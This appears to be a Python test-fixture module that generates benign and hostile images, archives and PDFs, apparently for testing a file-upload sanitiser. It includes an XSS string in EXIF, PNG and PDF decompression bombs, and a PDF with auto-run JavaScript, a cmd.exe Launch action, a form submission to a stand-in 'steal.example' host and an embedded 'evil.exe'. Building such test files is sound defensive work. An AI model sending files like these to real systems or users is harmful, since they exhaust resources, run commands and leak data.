"""Real files, good and hostile, made on the spot."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image, ImageDraw

SCRIPT = b"<script>alert(document.domain)</script>"

pillow_heif.register_heif_opener()


def picture(width: int = 640, height: int = 480, mode: str = "RGB") -> Image.Image:
    """Draw stripes, so that turning and cutting can be seen."""
    image = Image.new("RGB", (width, height), (250, 250, 250))
    draw = ImageDraw.Draw(image)
    for n in range(0, width, 20):
        draw.line((n, 0, n, height), fill=(n % 256, 40, 90), width=5)
    draw.rectangle((0, 0, width // 4, height // 4), fill=(200, 0, 0))
    return image.convert(mode)


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def exif(*, orientation: int = 1) -> Image.Exif:
    """Make EXIF with a place, a device and a script in its description."""
    facts = Image.Exif()
    facts[0x0112] = orientation
    facts[0x010F] = "Telepon"
    facts[0x010E] = SCRIPT.decode()
    facts.get_ifd(0x8825).update({1: "S", 2: (6.0, 15.0, 30.0), 3: "E", 4: (106.0, 49.0, 12.0)})
    return facts


def jpeg(width: int = 640, height: int = 480, **options: Any) -> bytes:
    return saved(picture(width, height), "JPEG", **options)


def png(width: int = 640, height: int = 480, mode: str = "RGB", **options: Any) -> bytes:
    return saved(picture(width, height, mode), "PNG", **options)


def webp(width: int = 640, height: int = 480, **options: Any) -> bytes:
    return saved(picture(width, height), "WEBP", **options)


def heic(width: int = 640, height: int = 480, **options: Any) -> bytes:
    return saved(picture(width, height), "HEIF", **options)


def moving(kind: str) -> bytes:
    frames = [picture(200, 200), picture(200, 200).rotate(90)]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def png_bomb(side: int = 30_000) -> bytes:
    """Make a one-coloured PNG of side × side dots in less than a megabyte."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data))
        )  # fmt: skip

    squeeze = zlib.compressobj(1)
    row = bytes(1 + side // 8)
    dots = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")
    )


def zipped(**files: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def docx() -> bytes:
    return zipped(
        **{
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<R/>",
            "word/document.xml": b"<d/>",
        }
    )


def new_pdf(pages: int = 1, words: str = "Kutipan Akta Kelahiran") -> pikepdf.Pdf:
    """Make a PDF whose every page says these words in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for n in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = pdf.make_stream(
            f"BT /F1 24 Tf 80 700 Td ({words} {n + 1}) Tj ET".encode()
        )
    return pdf


def pdf_bytes(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = BytesIO()
    pdf.save(out, **options)
    pdf.close()
    return out.getvalue()


def pdf(pages: int = 1, words: str = "Kutipan Akta Kelahiran") -> bytes:
    return pdf_bytes(new_pdf(pages, words))


def locked_pdf() -> bytes:
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="o", user="u"))


def restricted_pdf() -> bytes:
    """Make a PDF that opens without a password but forbids changes."""
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="o", user=""))


def acting_pdf() -> bytes:
    """Make a PDF with code, links, an attachment, XFA and metadata, in many places."""
    pdf = new_pdf(2)
    code = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    shell = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    send = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://steal.example/")
    )
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://bad.example/"))
    pdf.Root.OpenAction = code
    pdf.Root.AA = pikepdf.Dictionary(WC=code)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), code]))
    )
    pdf.attachments["evil.exe"] = b"MZ evil program"
    page = pdf.pages[0]
    page.AA = pikepdf.Dictionary(O=shell)
    page.Annots = pikepdf.Array(
        [
            pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[0, 0, 99, 99],
                    A=action,
                )
            )
            for action in (link, send, shell)
        ]
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp>app.alert</xdp>")
    )
    with pdf.open_metadata() as facts:
        facts["dc:creator"] = ["Orang Rahasia"]
    pdf.docinfo["/Author"] = "Orang Rahasia"
    return pdf_bytes(pdf)


def form_pdf(value: str = "TERISI") -> bytes:
    """Make a PDF with one filled text field that carries its own appearance."""
    pdf = new_pdf()
    font = pdf.pages[0].Resources.Font
    drawn = pdf.make_stream(
        f"/Tx BMC q BT /F1 30 Tf 2 10 Td ({value}) Tj ET Q EMC".encode(),
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Form,
        BBox=[0, 0, 300, 50],
        Resources=pikepdf.Dictionary(Font=font),
    )
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("nama"),
            V=pikepdf.String(value),
            F=4,
            Rect=[80, 400, 380, 450],
            DA=pikepdf.String("/F1 30 Tf 0 g"),
            AP=pikepdf.Dictionary(N=drawn),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([field]), DR=pikepdf.Dictionary(Font=font)
    )
    return pdf_bytes(pdf)


def pdf_bomb(megabytes: int = 2000) -> bytes:
    """Make a PDF whose one page unpacks, in two steps, to this many megabytes."""
    block = b"0 0 m\n" * 200_000
    squeeze = zlib.compressobj(9)
    first = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    again = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    packed = first + again * (megabytes * 1_000_000 // len(block))
    pdf = new_pdf()
    stream = pdf.make_stream(b"")
    both = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    stream.write(zlib.compress(packed, 9), filter=both)
    pdf.pages[0].Contents = stream
    as_is = pikepdf.StreamDecodeLevel.none
    return pdf_bytes(pdf, compress_streams=False, stream_decode_level=as_is)
